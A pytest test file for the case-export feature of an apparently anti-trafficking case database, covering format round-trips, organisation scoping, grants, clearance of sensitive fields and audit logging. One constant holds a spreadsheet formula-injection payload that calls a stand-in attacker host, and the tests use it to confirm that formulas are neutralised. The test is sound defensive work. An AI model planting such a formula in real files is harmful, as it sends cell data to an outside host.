"""Exports of cases: each format round-trips, scope, grants, clearance, audit."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import polars as pl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from flexwatch.accounts import actions as account_actions
from flexwatch.accounts.models import AuditEntry
from flexwatch.cases import actions as case_actions
from flexwatch.cases import export, tables
from flexwatch.cases.models import Case
from tests import factories

HOSTILE = '=HYPERLINK("http://attacker.example/?q="&A1,"Open")'


@pytest.fixture
def cases(ws):
    """Two cases of the owner: the factory's, and one with money and controls."""
    author = ws.user("caseworker")
    first = factories.case(ws.owner, author)
    victim = {
        "role": "victim",
        "sex": "male",
        "age_min": 18,
        "age_max": 20,
        "citizenship": "stateless",
        "means_of_control": ["debt_bondage", "withheld_documents"],
        "penalised": False,
        "wages_recovered": "1200.50",
        "decisions": [
            {"decision": "presumed", "decided_on": "2024-01-05", "authority": "police"},
            {"decision": "formally_identified", "decided_on": "2024-03-01"},
            {"decision": "presumed"},
        ],
    }
    second = factories.case(
        ws.owner,
        author,
        country="EE",
        region="EE001",
        registered_on="2024-02-01",
        exploitation_forms=["forced_labour", "begging"],
        narrative=HOSTILE,
        persons=[victim],
        observations=[],
    )
    return first, second


def _expected(user, **request) -> list[dict]:
    """The rows the export reads from the store, as the files should hold them."""
    _reader, table = export.prepare(user, export.Request(**request))
    return [row for chunk in table.chunks() for row in chunk]


def _export(user, path, **request) -> export.Summary:
    return export.run(user, export.Request(**request), str(path))


def _csv_rows(path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _as_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime.date):
        return value.isoformat()
    return str(value)


def _xlsx_rows(path) -> list[dict]:
    book = openpyxl.load_workbook(path, read_only=True)
    header, *rows = book.worksheets[0].iter_rows(values_only=True)
    book.close()
    # Write-only sheets store no empty cells, so a row can end early.
    padded = (row + (None,) * (len(header) - len(row)) for row in rows)
    return [dict(zip(header, row, strict=True)) for row in padded]


def _as_cell(value):
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, datetime.date):
        return datetime.datetime.combine(value, datetime.time())
    return value


# Round trips


@pytest.mark.parametrize("table", export.TABLES)
def test_csv_round_trips_every_row(ws, cases, tmp_path, table):
    analyst = ws.user("analyst")
    expected = _expected(analyst, format="csv", table=table, sensitive=True)

    _export(analyst, tmp_path / "out.csv", format="csv", table=table, sensitive=True)

    rows = _csv_rows(tmp_path / "out.csv")
    hostile = [row for row in expected if HOSTILE in row.values()]
    assert len(rows) == len(expected) > 0
    for got, want in zip(rows, expected, strict=True):
        want = {k: _as_text(v) for k, v in want.items()}
        assert got == {k: "'" + v if v == HOSTILE else v for k, v in want.items()}, got
    assert (table == "cases") == bool(hostile)


@pytest.mark.parametrize("table", export.TABLES)
def test_xlsx_round_trips_every_row_with_typed_cells(ws, cases, tmp_path, table):
    analyst = ws.user("analyst")
    expected = _expected(analyst, format="xlsx", table=table)

    _export(analyst, tmp_path / "out.xlsx", format="xlsx", table=table)

    rows = _xlsx_rows(tmp_path / "out.xlsx")
    assert rows == [
        {k: _as_cell(None if v == "" else v) for k, v in row.items()}
        for row in expected
    ]


@pytest.mark.parametrize("table", export.TABLES)
def test_parquet_round_trips_every_row_with_its_types(ws, cases, tmp_path, table):
    analyst = ws.user("analyst")
    expected = _expected(analyst, format="parquet", table=table, sensitive=True)

    _export(
        analyst, tmp_path / "out.parquet", format="parquet", table=table, sensitive=True
    )

    frame = pl.read_parquet(tmp_path / "out.parquet")
    assert frame.to_dicts() == expected
    assert frame.schema["case_id"] == pl.Int64


def test_the_rows_hold_the_stored_values(ws, cases, tmp_path):
    first, second = cases
    analyst = ws.user("analyst")

    case_rows = _expected(analyst, format="csv", table="cases")
    person_rows = _expected(analyst, format="csv", table="persons")

    assert [row["case_id"] for row in case_rows] == [first.pk, second.pk]
    assert case_rows[1]["exploitation_forms"] == "forced_labour; begging"
    assert case_rows[1]["year"] == 2024
    assert [(r["persons"], r["victims"]) for r in case_rows] == [(2, 1), (1, 1)]
    victim = person_rows[-1]
    assert victim["means_of_control"] == "debt_bondage; withheld_documents"
    assert victim["wages_recovered"] == Decimal("1200.50")
    assert victim["age_group"] == "y18_29"
    # The latest dated decision, not the undated one recorded after it.
    assert victim["decision"] == "formally_identified"
    assert victim["decided_on"] == datetime.date(2024, 3, 1)


def test_many_chunks_come_out_whole_and_in_order(ws, tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "CHUNK", 2)
    made = [factories.case(ws.owner, ws.user("caseworker")).pk for _ in range(5)]

    for fmt in ("csv", "xlsx", "parquet"):
        path = tmp_path / f"out.{fmt}"
        summary = _export(ws.user("analyst"), path, format=fmt, table="persons")
        assert summary.rows == 10
    ids = pl.read_parquet(tmp_path / "out.parquet")["case_id"].to_list()
    assert ids == [pk for pk in made for _ in range(2)]
    assert len(_csv_rows(tmp_path / "out.csv")) == len(
        _xlsx_rows(tmp_path / "out.xlsx")
    )


@pytest.mark.parametrize("table", export.TABLES)
def test_the_number_of_queries_does_not_grow_with_the_cases(ws, table, tmp_path):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            _export(ws.user("analyst"), tmp_path / "out.csv", format="csv", table=table)
        return len(captured)

    factories.case(ws.owner, ws.user("caseworker"))
    few = queries()
    for _ in range(4):
        factories.case(ws.owner, ws.user("caseworker"))

    assert queries() == few


# Formulas


def test_spreadsheet_formats_neutralise_formulas_and_parquet_keeps_the_text(
    ws, cases, tmp_path
):
    analyst = ws.user("analyst")
    for fmt in ("csv", "xlsx", "parquet"):
        _export(analyst, tmp_path / f"out.{fmt}", format=fmt, sensitive=True)

    in_csv = _csv_rows(tmp_path / "out.csv")[1]["narrative"]
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    column = [cell.value for cell in sheet[1]].index("narrative") + 1
    cell = sheet.cell(row=3, column=column)
    in_parquet = pl.read_parquet(tmp_path / "out.parquet")["narrative"][1]

    assert in_csv == "'" + HOSTILE
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    assert in_parquet == HOSTILE


def test_xlsx_drops_control_characters_excel_refuses(ws, cases, tmp_path):
    Case.objects.filter(pk=cases[0].pk).update(narrative="bell\x07 and\x1b escape")

    _export(ws.user("analyst"), tmp_path / "out.xlsx", format="xlsx", sensitive=True)

    assert _xlsx_rows(tmp_path / "out.xlsx")[0]["narrative"] == "bell and escape"


# Scope and grants


def test_another_organisations_cases_are_never_exported(ws, cases, tmp_path):
    theirs = factories.case(ws.outsider, ws.outsider_admin)

    _export(ws.user("analyst"), tmp_path / "ours.csv", format="csv", table="cases")
    _export(ws.outsider_admin, tmp_path / "theirs.csv", format="csv", table="cases")

    ours = {row["case_id"] for row in _csv_rows(tmp_path / "ours.csv")}
    seen_by_them = [row["case_id"] for row in _csv_rows(tmp_path / "theirs.csv")]
    assert ours == {str(case.pk) for case in cases}
    assert seen_by_them == [str(theirs.pk)]


def test_deleted_cases_are_not_exported(ws, cases):
    case_actions.delete(factories.actor(ws.user("admin")), cases[0])

    rows = _expected(ws.user("analyst"), format="csv", table="cases")
    assert [row["case_id"] for row in rows] == [cases[1].pk]


@pytest.mark.parametrize("role", ["caseworker", "viewer", "partner"])
def test_only_admins_and_analysts_export(ws, cases, tmp_path, role):
    with pytest.raises(export.ExportRefused, match="admins and analysts"):
        _export(ws.user(role), tmp_path / "out.csv", format="csv")

    assert not (tmp_path / "out.csv").exists()


def test_a_grant_exports_its_fields_only_and_no_parts_it_does_not_name(
    ws, cases, tmp_path
):
    account_actions.grant(
        factories.actor(ws.user("admin")),
        ws.owner,
        ws.rapporteur,
        "cases.case",
        ["country", "year", "exploitation_forms"],
    )
    rapporteur = ws.rapporteur_analyst

    rows = _expected(rapporteur, format="csv", table="cases", sensitive=True)
    persons = _expected(rapporteur, format="csv", table="persons")
    victims = _expected(rapporteur, format="htcds")

    assert [row["country"] for row in rows] == ["FI", "EE"]
    assert rows[0]["exploitation_forms"] == "forced_labour"
    assert rows[0]["sector"] is None and rows[0]["persons"] is None
    assert rows[0]["narrative"] is None
    assert persons == [] and victims == []


def test_a_grant_of_every_field_exports_the_persons_but_no_sensitive_field(
    ws, cases, tmp_path
):
    account_actions.grant(
        factories.actor(ws.user("admin")), ws.owner, ws.rapporteur, "cases.case"
    )
    rapporteur = ws.rapporteur_analyst

    summary = _export(
        rapporteur,
        tmp_path / "o.csv",
        format="csv",
        table="observations",
        sensitive=True,
    )

    rows = _csv_rows(tmp_path / "o.csv")
    assert summary.rows == 2 and {row["evidence"] for row in rows} == {""}
    assert len(_expected(rapporteur, format="csv", table="persons")) == 3
    assert not AuditEntry.objects.filter(action="sensitive_exported").exists()


# Clearance and audit


def test_without_asking_the_sensitive_fields_are_left_out_and_nothing_audited(
    ws, cases, tmp_path
):
    _export(ws.user("analyst"), tmp_path / "out.csv", format="csv", table="cases")
    _export(
        ws.user("analyst"), tmp_path / "obs.csv", format="csv", table="observations"
    )

    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert "narrative" not in text.splitlines()[0] and "Berry pickers" not in text
    assert "Passports" not in (tmp_path / "obs.csv").read_text(encoding="utf-8-sig")
    assert not AuditEntry.objects.filter(action="sensitive_exported").exists()


def test_sensitive_fields_asked_for_are_exported_and_audited(ws, cases, tmp_path):
    analyst = ws.user("analyst")

    summary = _export(
        analyst, tmp_path / "out.csv", format="csv", table="cases", sensitive=True
    )

    entry = AuditEntry.objects.get(action="sensitive_exported")
    assert summary.disclosed == 2
    assert "Berry pickers" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert entry.actor_id == analyst.pk and entry.organisation_id == ws.owner.pk
    assert entry.detail["cases"] == [cases[0].pk, cases[1].pk]
    assert entry.detail["fields"] == ["narrative"]
    assert entry.detail["format"] == "csv"


def test_the_audit_names_only_cases_whose_evidence_went_out(ws, cases, tmp_path):
    _export(
        ws.user("admin"),
        tmp_path / "o.parquet",
        format="parquet",
        table="observations",
        sensitive=True,
        filters={"year": 2023},
    )

    entry = AuditEntry.objects.get(action="sensitive_exported")
    assert entry.detail["cases"] == [cases[0].pk]
    assert entry.detail["fields"] == ["observations.evidence"]
    assert entry.detail["filters"] == {"year": 2023}


def test_a_failed_export_leaves_no_file_and_no_audit_entry(
    ws, cases, tmp_path, monkeypatch
):
    def broken(*args):
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(tables, "_case_row", broken)
    for fmt in ("csv", "xlsx", "parquet"):
        target = tmp_path / f"out.{fmt}"
        with pytest.raises(RuntimeError, match="disk is full"):
            _export(ws.user("analyst"), target, format=fmt, sensitive=True)

    assert list(tmp_path.iterdir()) == []
    assert not AuditEntry.objects.filter(action="sensitive_exported").exists()


# Filters and refusals


def test_filters_choose_the_cases_like_the_case_list(ws, cases, tmp_path):
    analyst = ws.user("analyst")

    estonian = _expected(analyst, format="csv", filters={"country": "EE"})
    of_2023 = _expected(analyst, format="csv", filters={"year": 2023, "country": ""})
    none = _expected(analyst, format="csv", filters={"country": "EE", "year": 2023})

    assert [row["case_id"] for row in estonian] == [cases[1].pk]
    assert [row["case_id"] for row in of_2023] == [cases[0].pk]
    assert none == []


def test_binary_formats_refuse_standard_output(ws, cases):
    with pytest.raises(export.ExportRefused, match="binary format"):
        export.run(ws.user("analyst"), export.Request("xlsx"), "-")


def test_an_unknown_format_or_table_is_refused_with_the_accepted_ones(ws, tmp_path):
    with pytest.raises(export.ExportRefused, match="csv, xlsx, parquet, htcds"):
        _export(ws.user("analyst"), tmp_path / "x", format="json")
    with pytest.raises(export.ExportRefused, match="cases, persons, observations"):
        _export(ws.user("analyst"), tmp_path / "x", format="csv", table="suspects")


def test_xlsx_refuses_more_rows_than_a_sheet_holds(ws, cases, tmp_path, monkeypatch):
    monkeypatch.setattr(export.writers, "XLSX_MAX_ROWS", 1)

    with pytest.raises(export.ExportRefused, match="Choose CSV or Parquet"):
        _export(ws.user("analyst"), tmp_path / "out.xlsx", format="xlsx")
